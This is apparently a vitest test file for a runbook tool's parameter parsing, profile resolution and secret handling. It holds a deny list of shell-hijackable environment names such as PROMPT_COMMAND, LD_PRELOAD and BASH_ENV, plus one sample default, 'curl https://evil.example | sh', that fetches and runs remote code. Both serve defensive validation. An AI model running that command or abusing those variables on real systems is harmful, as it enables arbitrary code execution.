import { describe, expect, it } from 'vitest';
import type { RunbookParam } from '../model/runbook';
import { parseRunbook } from './parse-runbook';
import { isProductionProfileName, resolveParams, validateParamValue } from './params';

const runbookWith = (yaml: string) => parseRunbook(`---\n${yaml}\n---\n# T\n`, 'p.md');
const rules = (yaml: string) => runbookWith(yaml).diagnostics.filter((d) => d.rule !== 'unused-param').map((d) => d.rule);

describe('params', () => {
  it('reads every field, turning YAML scalars into text', () => {
    const { params } = runbookWith(
      'params:\n  PORT:\n    description: Port\n    default: 5432\n    required: true\n    choices: [5432, 6432]\n    pattern: "[0-9]+"\n  TOKEN:\n    secret: true\n  EMPTY:',
    );
    expect(params).toEqual([
      { name: 'PORT', description: 'Port', default: '5432', required: true, choices: ['5432', '6432'], pattern: '[0-9]+', secret: false, line: 3 },
      { name: 'TOKEN', description: '', required: false, secret: true, line: 9 },
      { name: 'EMPTY', description: '', required: false, secret: false, line: 11 },
    ]);
  });

  it.each([
    ['params: [A]', 'param-definition'],
    ['params:\n  lower_case: {}', 'param-name'],
    ['params:\n  PATH: {}', 'param-name'],
    ['params:\n  PROMPT_COMMAND: {}', 'param-name'],
    ['params:\n  PS0: {}', 'param-name'],
    ['params:\n  PS1: {}', 'param-name'],
    ['params:\n  PS4: {}', 'param-name'],
    ['params:\n  BASH_ENV: {}', 'param-name'],
    ['params:\n  ENV: {}', 'param-name'],
    ['params:\n  IFS: {}', 'param-name'],
    ['params:\n  SHELLOPTS: {}', 'param-name'],
    ['params:\n  BASHOPTS: {}', 'param-name'],
    ['params:\n  CDPATH: {}', 'param-name'],
    ['params:\n  GLOBIGNORE: {}', 'param-name'],
    ['params:\n  HISTFILE: {}', 'param-name'],
    ['params:\n  LD_PRELOAD: {}', 'param-name'],
    ['params:\n  LD_LIBRARY_PATH: {}', 'param-name'],
    ['params:\n  DYLD_INSERT_LIBRARIES: {}', 'param-name'],
    ['params:\n  NODE_OPTIONS: {}', 'param-name'],
    ['params:\n  ZDOTDIR: {}', 'param-name'],
    ['params:\n  HOME: {}', 'param-name'],
    ['params:\n  SHELL: {}', 'param-name'],
    ['params:\n  TERM: {}', 'param-name'],
    ['params:\n  FIREBREAK_SHELL_INTEGRATION: {}', 'param-name'],
    ['params:\n  BASH_FUNC_X: {}', 'param-name'],
    ['params:\n  A: text', 'param-definition'],
    ['params:\n  A: { required: yes-please }', 'param-definition'],
    ['params:\n  A: { choices: [] }', 'param-definition'],
    ['params:\n  A: { default: [1] }', 'param-definition'],
    ['params:\n  A: { pattern: "(" }', 'invalid-pattern'],
    ['params:\n  A: { descripton: x }', 'param-definition'],
    ['params:\n  A: { default: c, choices: [a, b] }', 'param-definition'],
    ['params:\n  A: { default: "x y", pattern: "[a-z]+" }', 'param-definition'],
    ['params:\n  A: { secret: true, default: hunter2 }', 'secret-in-file'],
  ])('reports %j as %s', (yaml, rule) => {
    expect(rules(yaml)).toEqual([rule]);
  });

  it('explains why a shell-special name is refused, and still accepts ordinary names that merely contain one', () => {
    const { diagnostics, params } = runbookWith('params:\n  PROMPT_COMMAND: { default: "curl https://evil.example | sh" }');
    expect(params).toEqual([]);
    expect(diagnostics[0]!.message).toMatch(/PROMPT_COMMAND.*shell/);
    expect(rules('params:\n  APP_PATH: {}\n  HOMEPAGE: {}\n  TERMINAL_ID: {}\n  SHELL_KIND: {}')).toEqual([]);
  });

  it('reads profiles and marks production ones', () => {
    const { profiles, diagnostics } = runbookWith(
      'params:\n  HOST: {}\nprofiles:\n  staging:\n    values: { HOST: s }\n  production:\n    values: { HOST: p }\n  live:\n    production: true\n    description: Customers\n  prod-eu: {}\n  production-drill:\n    production: false',
    );
    expect(diagnostics.filter((d) => d.rule !== 'unused-param')).toEqual([]);
    expect(profiles.map((p) => [p.name, p.production])).toEqual([
      ['staging', false],
      ['production', true],
      ['live', true],
      ['prod-eu', true],
      ['production-drill', false],
    ]);
    expect(profiles[0]!.values).toEqual({ HOST: 's' });
    expect(profiles[2]!.description).toBe('Customers');
  });

  it.each([
    ['profiles: [a]', 'profile-definition'],
    ['profiles:\n  staging: text', 'profile-definition'],
    ['profiles:\n  staging: { HOST: a }', 'profile-definition'],
    ['profiles:\n  staging: { production: sure }', 'profile-definition'],
    ['profiles:\n  staging: { values: [a] }', 'profile-definition'],
    ['profiles:\n  staging: { values: { HOTS: a } }', 'profile-unknown-param'],
    ['profiles:\n  staging: { values: { TOKEN: hunter2 } }', 'secret-in-file'],
    ['profiles:\n  staging: { values: { STAGE: moon } }', 'profile-invalid-value'],
    ['profiles:\n  staging: { values: { HOST: "a b" } }', 'profile-invalid-value'],
  ])('reports profile %j as %s', (yaml, rule) => {
    const params = 'params:\n  HOST: { pattern: "[a-z.]+" }\n  STAGE: { choices: [staging, production] }\n  TOKEN: { secret: true }\n';
    expect(rules(params + yaml)).toEqual([rule]);
  });

  it('points a profile problem at the offending value', () => {
    const { diagnostics } = runbookWith('params:\n  HOST: {}\nprofiles:\n  staging:\n    values:\n      HOTS: a');
    expect(diagnostics.find((d) => d.rule === 'profile-unknown-param')).toMatchObject({ line: 7, column: 7 });
    expect(diagnostics.find((d) => d.rule === 'profile-unknown-param')!.message).toContain('Did you mean "HOST"?');
  });

  it('knows production profile names', () => {
    expect(['production', 'prod', 'Prod-EU', 'production_us'].every(isProductionProfileName)).toBe(true);
    expect(['staging', 'drill', 'producer', 'preprod'].some(isProductionProfileName)).toBe(false);
  });
});

describe('resolveParams', () => {
  const { params, profiles } = runbookWith(
    'params:\n  HOST: { required: true, pattern: "[a-z0-9.-]+" }\n  STAGE: { choices: [staging, production], default: staging }\n  TOKEN: { secret: true, required: true }\n  NOTE: {}\nprofiles:\n  staging: { values: { HOST: db.staging } }\n  production: { values: { HOST: db.prod, STAGE: production } }',
  );
  const runbook = { params, profiles };

  it('takes override, then profile, then default, then empty', () => {
    const resolved = resolveParams(runbook, 'production', { TOKEN: 's3cret', HOST: 'db-2.prod' });
    expect(resolved.values).toEqual({ HOST: 'db-2.prod', STAGE: 'production', TOKEN: 's3cret', NOTE: '' });
    expect(resolved.errors).toEqual({});
    expect(resolved.production).toBe(true);
  });

  it('reports per-field errors without repeating secret values', () => {
    const resolved = resolveParams(runbook, 'staging', { HOST: 'BAD HOST', STAGE: 'moon', TOKEN: '', EXTRA: 'x' });
    expect(Object.keys(resolved.errors).sort()).toEqual(['EXTRA', 'HOST', 'STAGE', 'TOKEN']);
    expect(resolved.errors.TOKEN).toBe('TOKEN is required.');
    expect(resolved.errors.HOST).not.toContain('BAD HOST');
    expect(resolved.production).toBe(false);
  });

  it('reports an unknown profile and resolves defaults without one', () => {
    expect(resolveParams(runbook, 'moon').profileError).toContain('no profile "moon"');
    expect(resolveParams(runbook, undefined, { HOST: 'h', TOKEN: 't' })).toEqual({
      values: { HOST: 'h', STAGE: 'staging', TOKEN: 't', NOTE: '' },
      errors: {},
      production: false,
    });
  });

  it('refuses NUL in a value', () => {
    const param: RunbookParam = { name: 'A', description: '', required: false, secret: false, line: 1 };
    expect(validateParamValue(param, 'a\0b')).toContain('NUL');
  });
});
